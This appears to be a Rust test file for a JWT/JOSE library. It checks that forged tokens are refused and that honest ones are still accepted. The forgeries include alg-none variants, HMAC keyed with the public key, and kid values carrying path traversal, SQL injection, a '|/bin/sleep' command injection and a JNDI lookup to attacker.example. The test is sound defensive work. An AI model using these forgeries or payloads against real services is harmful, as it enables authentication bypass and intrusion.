//! Live forgeries (scenario 14 of the reliability page): tokens an attacker would make against
//! keys in use. Each is refused, and each attack's honest twin is accepted, so that a refusal
//! means the attack was noticed.

use jose::{
    Error, Jwk, SignatureAlgorithm, SigningKey, VerificationKey, VerificationKeys, base64url, verify_compact,
};
use serde_json::{Value, json};

#[path = "forgeries/attacker.rs"]
mod attacker;
#[path = "forgeries/payload.rs"]
mod payload;

use attacker::{Attacker, NOW, honest_claims, token};

struct Scene {
    key: SigningKey,
    keys: VerificationKeys,
}

impl Scene {
    fn new(algorithm: SignatureAlgorithm) -> Self {
        let key = SigningKey::generate(algorithm).unwrap().with_kid("key-1");
        let keys = VerificationKeys::single(key.verification_key().unwrap());
        Self { key, keys }
    }

    fn check(&self, token: &str) -> Result<(), Error> {
        verify_compact(token.as_bytes(), &self.keys, NOW, 0).map(drop)
    }

    /// The public key as an attacker has it.
    fn public(&self) -> Jwk {
        self.key.public_jwk().unwrap()
    }
}

fn public_algorithms() -> [SignatureAlgorithm; 4] {
    use SignatureAlgorithm::{EdDsa, Es256, Ps256, Rs256};
    [Rs256, Ps256, Es256, EdDsa]
}

#[test]
fn honest_tokens_are_accepted() {
    for algorithm in public_algorithms() {
        let scene = Scene::new(algorithm);
        let token = scene.key.sign_claims("at+jwt", &honest_claims()).unwrap();
        assert_eq!(scene.check(&token), Ok(()));
    }
}

#[test]
fn unsigned_tokens() {
    for algorithm in public_algorithms() {
        let scene = Scene::new(algorithm);
        let honest = scene.key.sign_claims("at+jwt", &honest_claims()).unwrap();
        let signature = honest.rsplit('.').next().unwrap();
        for alg in ["none", "None", "NONE", "nOnE", "", "null", "HS256 ", "rs256", "es256", "eddsa"] {
            for signature in ["", signature, "AA"] {
                let forged = token(&json!({"alg": alg, "kid": "key-1"}), &honest_claims(), signature);
                assert_eq!(scene.check(&forged), Err(Error::AlgorithmNotAllowed), "{alg}");
            }
        }
        for header in
            [json!({"kid": "key-1"}), json!({"alg": null}), json!({"alg": ["none"]}), json!({"alg": 0})]
        {
            assert!(scene.check(&token(&header, &honest_claims(), "")).is_err(), "{header}");
        }
        let name = algorithm.name();
        let empty = token(&json!({"alg": name, "kid": "key-1"}), &honest_claims(), "");
        assert_eq!(scene.check(&empty), Err(Error::BadSignature));
    }
}

#[test]
fn the_public_key_as_a_shared_secret() {
    for algorithm in public_algorithms() {
        let scene = Scene::new(algorithm);
        let public = scene.public();
        for secret in attacker::spellings(&public) {
            for alg in ["HS256", "HS384", "HS512"] {
                let forged = Attacker::hmac(&secret, alg, &json!({"alg": alg, "kid": "key-1"}));
                assert_eq!(scene.check(&forged), Err(Error::AlgorithmNotAllowed), "{algorithm} {alg}");
            }
        }
    }
}

#[test]
fn another_algorithm_of_the_same_key() {
    let key = SigningKey::generate(SignatureAlgorithm::Rs256).unwrap().with_kid("key-1");
    let pkcs8 = key.to_pkcs8().unwrap();
    let keys = VerificationKeys::single(key.verification_key().unwrap());
    for other in [SignatureAlgorithm::Rs512, SignatureAlgorithm::Ps256] {
        let signer = SigningKey::from_pkcs8(&pkcs8, other).unwrap().with_kid("key-1");
        let forged = signer.sign_claims("at+jwt", &honest_claims()).unwrap();
        let refused = verify_compact(forged.as_bytes(), &keys, NOW, 0);
        assert_eq!(refused.map(drop), Err(Error::AlgorithmNotAllowed));
    }
}

#[test]
fn a_kid_that_is_a_path_a_query_or_a_url() {
    let scene = Scene::new(SignatureAlgorithm::Es256);
    let attacker = Attacker::new();
    for kid in [
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "http://attacker.example/key",
        "key-1' UNION SELECT 'AA' --",
        "key-1\u{0}",
        "key-1 ",
        "KEY-1",
        "",
        "|/bin/sleep 10",
        "${jndi:ldap://attacker.example}",
    ] {
        let forged = attacker.sign(&json!({"alg": "ES256", "kid": kid}));
        assert!(matches!(scene.check(&forged), Err(Error::UnknownKey(_))), "{kid}");
        let empty_secret = Attacker::hmac(b"", "HS256", &json!({"alg": "HS256", "kid": kid}));
        assert!(scene.check(&empty_secret).is_err(), "{kid}");
    }
    for kid in [json!(1), json!(null), json!(["key-1"]), json!({"key-1": 1})] {
        let forged = attacker.sign(&json!({"alg": "ES256", "kid": kid}));
        assert!(matches!(scene.check(&forged), Err(Error::Malformed { .. })), "{kid}");
    }
}

/// The attacker signs with a key of its own and says in the header where that key is. Nothing is
/// fetched: the crate has no means to, and the header members are not read.
#[test]
fn a_key_brought_along_or_pointed_at() {
    let scene = Scene::new(SignatureAlgorithm::Es256);
    let attacker = Attacker::new();
    for (member, value) in [
        ("jwk", attacker.public_json()),
        ("jku", json!("http://127.0.0.1:1/jwks")),
        ("x5u", json!("http://127.0.0.1:1/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
    ] {
        for kid in [Some("key-1"), None] {
            let mut header = json!({"alg": "ES256", member: value});
            if let Some(kid) = kid {
                header["kid"] = json!(kid);
            }
            assert_eq!(scene.check(&attacker.sign(&header)), Err(Error::BadSignature), "{member}");
        }
    }
    // Nor do they spoil a token that the right key signed: some issuers send them.
    let honest =
        scene.key.sign_with(&[("x5u", "http://127.0.0.1:1/")], honest_claims().to_string().as_bytes());
    assert_eq!(scene.check(&honest.unwrap()), Ok(()));
}

/// Signed by the right key: the header alone is the reason to refuse.
#[test]
fn headers_that_change_what_the_signature_means() {
    let scene = Scene::new(SignatureAlgorithm::EdDsa);
    let stored = scene.key.to_pkcs8().unwrap();
    let insider = Attacker::with(SigningKey::from_pkcs8(&stored, SignatureAlgorithm::EdDsa).unwrap());
    let header = |member: &str, value: Value| json!({"alg": "EdDSA", "kid": "key-1", member: value});
    assert_eq!(scene.check(&insider.sign(&header("typ", json!("JWT")))), Ok(()));
    for (member, value) in [
        ("crit", json!(["b64"])),
        ("crit", json!(["exp"])),
        ("crit", json!(["http://attacker.example/ext"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("zip", json!("GZIP")),
    ] {
        let refused = scene.check(&insider.sign(&header(member, value)));
        assert!(matches!(refused, Err(Error::HeaderRefused(named)) if named == member), "{member}");
    }
    for header in [
        r#"{"alg":"EdDSA","alg":"none","kid":"key-1"}"#,
        r#"{"alg":"none","alg":"EdDSA","kid":"key-1"}"#,
        r#"{"alg":"EdDSA","kid":"key-1","kid":"key-2"}"#,
        r#"{"alg":"EdDSA","\u0061lg":"none","kid":"key-1"}"#,
        r#"{"alg":"EdDSA","kid":"key-1"}{}"#,
        r#"["EdDSA"]"#,
        "",
    ] {
        let refused = scene.check(&insider.sign_text(header, &honest_claims().to_string()));
        assert!(matches!(refused, Err(Error::Json { .. })), "{header}");
    }
}

#[test]
fn tokens_out_of_shape() {
    let scene = Scene::new(SignatureAlgorithm::Es256);
    let honest = scene.key.sign_claims("at+jwt", &honest_claims()).unwrap();
    let parts: Vec<_> = honest.split('.').collect();
    let (h, p, s) = (parts[0], parts[1], parts[2]);
    for forged in [
        String::new(),
        ".".to_owned(),
        "..".to_owned(),
        "...".to_owned(),
        format!("{h}.{p}"),
        format!("{h}.{p}."),
        format!(".{p}.{s}"),
        format!("{honest}."),
        format!("{honest}.{s}"),
        format!(" {honest}"),
        format!("{honest} "),
        format!("{honest}\n"),
        format!("{honest}="),
        format!("{h}=.{p}.{s}"),
        format!("{h}.{p}=.{s}"),
        format!("{h}\u{0}.{p}.{s}"),
        honest.replace('-', "+").replace('_', "/") + "+",
        format!("{h}.{p}.{}", &s[..s.len() - 1]),
        format!("{h}.{p}.{s}AA"),
        format!("{h}.{p}.{}", base64url::encode([0; 64])),
        format!("{s}.{p}.{h}"),
    ] {
        assert!(scene.check(&forged).is_err(), "{forged}");
    }
}

#[test]
fn oversized_tokens_are_not_looked_at() {
    let scene = Scene::new(SignatureAlgorithm::Es256);
    let mut claims = honest_claims();
    claims["padding"] = json!("x".repeat(50_000));
    let forged = scene.key.sign_claims("at+jwt", &claims).unwrap();
    assert!(matches!(scene.check(&forged), Err(Error::TooLong { limit: 16_384, .. })));
    for forged in [".".repeat(50_000), "A".repeat(50_000), "e30.".repeat(12_500)] {
        assert!(matches!(scene.check(&forged), Err(Error::TooLong { .. })));
    }
    let deep = format!("{{\"alg\":{}1{}}}", "[".repeat(6000), "]".repeat(6000));
    let forged = format!("{}.e30.AA", base64url::encode(deep));
    assert!(matches!(scene.check(&forged), Err(Error::Json { problem: "nested too deeply", .. })));
}

#[test]
fn a_secret_that_is_too_short_is_no_key() {
    for k in ["", "AA", "c2VjcmV0"] {
        let jwk = json!({"kty": "oct", "alg": "HS256", "k": k}).to_string();
        assert!(VerificationKey::from_jwk(&Jwk::parse(jwk.as_bytes()).unwrap()).is_err());
    }
}
